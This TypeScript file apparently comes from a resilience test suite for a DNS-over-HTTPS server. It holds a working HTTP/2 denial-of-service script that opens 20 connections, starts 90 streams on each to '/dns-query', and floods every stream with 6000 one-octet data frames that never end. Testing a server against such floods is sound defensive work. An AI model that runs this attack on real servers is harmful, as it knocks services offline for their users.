/** HTTP/2: bodies in frames of one octet, as many as the window of a stream lets through, none of them ended. */
import { begun, PREFACE, part } from '../../support/http2-frames.ts';
import { haunt } from './guest.ts';
import { type StrangerAttack, stranger } from './stranger.ts';

const FRAMES = 6000;
const STREAMS = 90;

export const attack: StrangerAttack = {
  title: 'Bodies of HTTP/2 in frames of one octet',
  innocents: 'tls',
  strike: ({ httpsPort }) => {
    for (let index = 0; index < 20; index += 1)
      haunt(httpsPort, index, (socket) => {
        socket.write(PREFACE);
        for (let stream = 1; stream < 2 * STREAMS; stream += 2) {
          socket.write(begun(stream, '/dns-query'));
          const frame = part(stream, Buffer.of(0));
          socket.write(Buffer.concat(Array.from({ length: FRAMES }, () => frame)));
        }
      });
  },
};

if (import.meta.main) stranger(attack, import.meta.filename);
